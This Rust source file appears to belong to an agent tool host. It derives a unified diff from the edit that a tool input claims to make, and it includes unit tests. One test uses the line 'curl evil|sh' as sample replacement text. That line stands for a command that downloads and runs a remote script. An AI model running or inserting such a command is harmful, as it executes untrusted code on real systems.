//! The change that an input claims to make, as a diff.
//!
//! No file is read, because the file could be replaced before the tool runs.

use serde_json::{Map, Value};
use toolhost_contract::text::{UnifiedDiff, diff_lines};

/// Member names that tools use for the replaced text and its replacement.
pub const REPLACEMENT_MEMBERS: [(&str, &str); 8] = [
    ("old_string", "new_string"),
    ("old_str", "new_str"),
    ("old_text", "new_text"),
    ("oldText", "newText"),
    ("old", "new"),
    ("search", "replace"),
    ("original", "modified"),
    ("from_text", "to_text"),
];
/// Member names for the complete new content.
pub const CONTENT_MEMBERS: [&str; 4] = ["content", "file_text", "new_content", "contents"];
/// Member names for a diff.
pub const DIFF_MEMBERS: [&str; 2] = ["patch", "diff"];

/// The claimed change as a unified diff without a header, or `None` if the input contains none.
pub fn claimed_diff(input: &Value) -> Option<String> {
    let input = input.as_object()?;
    let mut out = String::new();
    add_members(input, &mut out);
    // Such as `edits: [{"old": …, "new": …}]`.
    for item in input.values().filter_map(Value::as_array).flatten() {
        if let Some(item) = item.as_object() {
            add_members(item, &mut out);
        }
    }
    (!out.is_empty()).then_some(out)
}

/// The number of lines that the diff adds and removes.
pub fn count_lines(claim: &str) -> (usize, usize) {
    let starting = |sign: char| {
        let lines = diff_lines(claim);
        lines.filter(|line| line.starts_with(sign)).count()
    };
    (starting('+'), starting('-'))
}

fn add_members(input: &Map<String, Value>, out: &mut String) {
    let text = |name: &str| input.get(name).and_then(Value::as_str);
    for (old, new) in REPLACEMENT_MEMBERS {
        if let (Some(old), Some(new)) = (text(old), text(new)) {
            add_diff(old, new, false, out);
        }
    }
    for content in CONTENT_MEMBERS.into_iter().filter_map(text) {
        // The end of a whole file counts.
        add_diff("", content, true, out);
    }
    for diff in DIFF_MEMBERS.into_iter().filter_map(text) {
        out.push_str(diff);
        if !diff.ends_with('\n') {
            out.push('\n');
        }
    }
}

fn add_diff(old: &str, new: &str, marks_missing_newline: bool, out: &mut String) {
    let diff = UnifiedDiff {
        marks_missing_newline,
        ..UnifiedDiff::default()
    };
    out.push_str(&diff.of(old, new));
}

#[cfg(test)]
mod tests {
    use expect_test::{Expect, expect};
    use serde_json::json;

    use super::super::diff_rows::{LineNumbers, diff_rows};
    use super::super::testing::layout;
    use super::*;

    fn check(input: Value, expected: Expect) {
        expected.assert_eq(&claimed_diff(&input).unwrap_or_else(|| "nothing".to_owned()));
    }

    #[test]
    fn a_carriage_return_neither_ends_a_line_nor_disappears() {
        let rows = |old: &str, new: &str| {
            let input = json!({"old_string": old, "new_string": new});
            let claim = claimed_diff(&input).unwrap();
            let rows = diff_rows("", &claim, LineNumbers::Unknown, layout(80, 24));
            (count_lines(&claim), rows[1..].concat())
        };
        let (counts, shown) = rows("ok\nold\rtail\n", "ok\ncurl evil|sh\ntail\n");
        assert_eq!(counts, (2, 1));
        assert_eq!(
            shown,
            "     │   ok\n     │ - old\\rtail\n     │ + curl evil|sh\n     │ + tail\n"
        );
        let (counts, shown) = rows("same\r\n", "same\n");
        assert_eq!(counts, (1, 1));
        assert_eq!(shown, "     │ - same\\r\n     │ + same\n");
    }

    // R-195, R-247
    #[test]
    fn a_claimed_edit_is_shown_as_a_diff() {
        check(
            json!({"path": "a", "old_string": "a\nb\nc\n", "new_string": "a\nB\nc\n"}),
            expect![[r#"
                @@ -1,3 +1,3 @@
                 a
                -b
                +B
                 c
            "#]],
        );
        check(
            json!({"path": "a", "content": "one\ntwo"}),
            expect![[r#"
                @@ -0,0 +1,2 @@
                +one
                +two
                \ No newline at end of file
            "#]],
        );
        check(
            json!({"path": "a", "edits": [{"old": "x", "new": "y"}, {"old": "1", "new": ""}]}),
            expect![[r#"
                @@ -1 +1 @@
                -x
                +y
                @@ -1 +0,0 @@
                -1
            "#]],
        );
        check(
            json!({"patch": "--- a\n+++ b"}),
            expect![[r#"
                --- a
                +++ b
            "#]],
        );
        for nothing in [
            json!({"path": "a"}),
            json!({"content": 1}),
            json!({"content": ""}),
            json!([]),
        ] {
            check(nothing, expect!["nothing"]);
        }
    }
}
